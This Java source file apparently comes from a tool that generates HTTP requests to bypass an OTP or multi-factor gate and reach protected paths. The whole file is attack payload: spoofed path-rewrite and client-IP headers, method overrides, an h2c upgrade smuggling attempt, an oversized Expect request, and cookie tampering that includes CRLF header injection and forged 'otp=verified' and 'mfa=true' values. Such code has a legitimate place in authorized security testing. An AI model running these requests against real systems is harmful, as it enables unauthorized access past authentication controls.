package org.example.attack;

import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Locale;

/** Requests for protected paths, with the cookies that one client has. */
final class Requests {
  private static final List<String> PATH_HEADERS =
      List.of(
          "X-Original-URL",
          "X-Rewrite-URL",
          "X-Forwarded-Prefix",
          "X-Forwarded-Path",
          "X-Forwarded-Uri",
          "X-Script-Name",
          "X-Original-Path",
          "X-Override-URL",
          "X-Proxy-Url",
          "X-HTTP-DestinationURL",
          "Destination",
          "Referer",
          "Content-Location",
          "Request-Uri");
  private static final List<String> ADDRESS_HEADERS =
      List.of(
          "X-Forwarded-For",
          "X-Real-IP",
          "Client-IP",
          "True-Client-IP",
          "X-Originating-IP",
          "X-Remote-IP",
          "X-Client-IP",
          "CF-Connecting-IP",
          "X-Cluster-Client-IP",
          "X-Remote-Addr");

  private final Site site;
  private final String cookie;
  private final Head head;

  Requests(Site site, Client client) {
    this.site = site;
    this.cookie = client.cookie();
    this.head = new Head(site.authority(), cookie);
  }

  /** A GET for each target, half of them as a browser sends them. */
  List<Attack> gets(Collection<String> targets) {
    List<Attack> attacks = new ArrayList<>();
    for (String target : targets) {
      String accept = attacks.size() % 2 == 0 ? "*/*" : "text/html";
      attacks.add(
          Attack.plain(target, head.request("GET " + target + " HTTP/1.1", "Accept: " + accept)));
    }
    return attacks;
  }

  /** All but spellings of paths: methods, versions, forms of the target, headers. */
  List<Attack> others() {
    List<Attack> attacks = new ArrayList<>();
    for (String path : site.layout().closed()) {
      String target = site.context() + path;
      new RequestLines(head, site.authority()).add(attacks, target);
      headers(attacks, target);
      cookies(attacks, target);
    }
    for (String open : List.of("/otp/challenge", "/otp/assets/otp.css", site.layout().served())) {
      for (String path : site.layout().closed()) {
        for (String header : PATH_HEADERS) {
          get(attacks, site.context() + open, header + ": " + site.context() + path);
          get(attacks, site.context() + open, header + ": " + path);
        }
      }
    }
    return attacks;
  }

  private void headers(List<Attack> attacks, String target) {
    for (String header :
        List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method")) {
      for (String method : List.of("GET", "POST", "HEAD", "OPTIONS", "DELETE")) {
        get(attacks, target, header + ": " + method);
      }
    }
    for (String header : PATH_HEADERS) {
      get(attacks, target, header + ": " + site.context() + "/otp/challenge");
      get(attacks, target, header + ": /otp/assets/otp.css");
      get(attacks, target, header + ": http://" + site.authority() + site.context() + "/login");
    }
    for (String header : ADDRESS_HEADERS) {
      for (String address : List.of("127.0.0.1", "::1", "10.0.0.1, 127.0.0.1", "fe80::1%eth0")) {
        get(attacks, target, header + ": " + address);
      }
    }
    for (String lie : HeaderLies.ALL) {
      get(attacks, target, lie.split("~"));
    }
    get(attacks, target, "X-Forwarded-For: " + "1.1.1.1, ".repeat(800) + "127.0.0.1");
    String upgrade = "Connection: Upgrade, HTTP2-Settings";
    attacks.add(
        Attack.alone(
            "h2c " + target,
            head.request(
                "GET " + target + " HTTP/1.1",
                upgrade,
                "Upgrade: h2c",
                "HTTP2-Settings: AAMAAABkAAQAAP__")));
    attacks.add(
        Attack.alone(
            "expect " + target,
            head.request(
                "POST " + target + " HTTP/1.1",
                "Expect: 100-continue",
                "Content-Length: 1073741824",
                "Connection: close")));
    for (String path : List.of(target, target + "/", target + "?x", target + ";x")) {
      attacks.add(new Attack("h2 " + path, Http2.get(site.authority(), path, cookie), false));
    }
  }

  /** More than one session, or one in disguise; this client's is among them. */
  private void cookies(List<Attack> attacks, String target) {
    String other = "JSESSIONID=0123456789ABCDEF0123456789ABCDEF";
    for (String line :
        List.of(
            cookie + "; " + other,
            other + "; " + cookie,
            cookie + "\r\nCookie: " + other,
            other + "\r\nCookie: " + cookie,
            cookie + ", " + other,
            cookie + "; otp=verified",
            cookie + "; mfa=true; verified=1",
            "$Version=1; " + cookie + "; $Path=/",
            cookie.toLowerCase(Locale.ROOT),
            cookie + ".node1",
            "x=\"" + cookie + "\"",
            cookie + "; " + "y=z; ".repeat(150),
            cookie.replace("=", "=\"") + "\"",
            "",
            ";",
            cookie.replace("=", " = "),
            "\u0000" + cookie,
            cookie + "; =",
            other,
            cookie + "%00")) {
      String request =
          head.bare("GET " + target + " HTTP/1.1", "Connection: close", "Cookie: " + line);
      attacks.add(Attack.alone("cookie " + line + " " + target, request));
    }
  }

  private void get(List<Attack> attacks, String target, String... headers) {
    String name = String.join(" ", headers);
    attacks.add(
        Attack.plain(
            name.substring(0, Math.min(80, name.length())) + " " + target,
            head.request("GET " + target + " HTTP/1.1", headers)));
  }
}
